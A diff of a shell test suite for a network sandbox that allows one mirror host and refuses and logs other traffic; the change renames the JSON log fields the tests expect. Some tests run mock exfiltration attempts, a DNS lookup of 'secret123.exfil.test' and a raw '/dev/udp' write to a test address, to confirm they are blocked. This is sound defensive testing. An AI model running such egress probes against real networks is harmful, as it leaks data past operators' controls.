@@ -52,8 +52,8 @@ t_http_proxy() {
 	local out
 	out=$(mrun "$T_OUT/log.json" -- curl -sS -m5 "http://mirror.test:$MIRROR_PORT/pkg.txt")
 	assert_eq "package-bytes-$$" "$out"
-	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"http","name":"mirror.test"'
-	assert_contains "$(cat "$T_OUT/log.json")" '"decision":"allow"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"type":"net","proto":"http","host":"mirror.test"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"action":"allow"'
 	# positive control: the mirror answers on the host
 	assert_eq "package-bytes-$$" "$(curl -sS -m5 --noproxy '*' "http://$MIRROR_ADDR:$MIRROR_PORT/pkg.txt")"
 }
@@ -66,8 +66,8 @@ t_socks_and_transparent() {
 		env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS -m5 http://mirror.test:$MIRROR_PORT/pkg.txt")
 	assert_eq "package-bytes-$$
 package-bytes-$$" "$out"
-	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"socks","name":"mirror.test"'
-	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","name":"mirror.test"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"socks","host":"mirror.test"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","host":"mirror.test"'
 }
 
 t_python_socket_to_allowed_name() {
@@ -103,9 +103,10 @@ t_other_hosts_refused_and_logged() {
 	assert_not_contains "$out" "package-bytes"
 	local log
 	log=$(cat "$T_OUT/log.json")
-	assert_contains "$log" '"name":"other.test","raw":"other.test:'
-	assert_contains "$log" '"decision":"deny","reason":"not-allowed"'
+	assert_contains "$log" '"host":"other.test","raw":"other.test:'
+	assert_contains "$log" '"action":"deny","rule":null,"reason":"not-allowed"'
 	assert_contains "$log" '"reason":"metadata"'
+	assert_contains "$log" '"type":"alert","cause":"net_denied"'
 }
 
 t_dns_refusal_recorded() {
@@ -113,7 +114,7 @@ t_dns_refusal_recorded() {
 	local rc=0
 	mrun "$T_OUT/log.json" -- getent hosts secret123.exfil.test >/dev/null 2>&1 || rc=$?
 	assert_eq 2 "$rc" "getent of a name that is not allowed"
-	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"dns","raw":"secret123.exfil.test","method":"A","decision":"deny"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"type":"dns","name":"secret123.exfil.test","qtype":"A","action":"deny"'
 	# an allowed name resolves to a synthetic address
 	local out
 	out=$(mrun "$T_OUT/log2.json" -- getent hosts mirror.test)
@@ -125,7 +126,8 @@ t_udp_dropped_and_logged() {
 	local out
 	out=$(mrun "$T_OUT/log.json" -- bash -c 'echo x > /dev/udp/203.0.113.9/53 && echo SENT || echo REFUSED' 2>/dev/null)
 	assert_eq REFUSED "$out"
-	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"udp","addr":"203.0.113.9","port":53,"decision":"deny","reason":"dropped"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"reason":"dropped"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"udp","host":null,"raw":null,"addr":"203.0.113.9","port":53'
 }
 
 t_direct_ip_refused_fast() {
@@ -139,7 +141,7 @@ t_direct_ip_refused_fast() {
 	assert_contains "$out" FAILED
 	assert_not_contains "$out" "package-bytes"
 	[ $((end - start)) -lt 5 ] || fail "direct connects took $((end - start)) s (should fail fast)"
-	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","raw":"203.0.113.7:'
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","host":null,"raw":"203.0.113.7:'
 }
 
 t_net_none_has_no_route() {
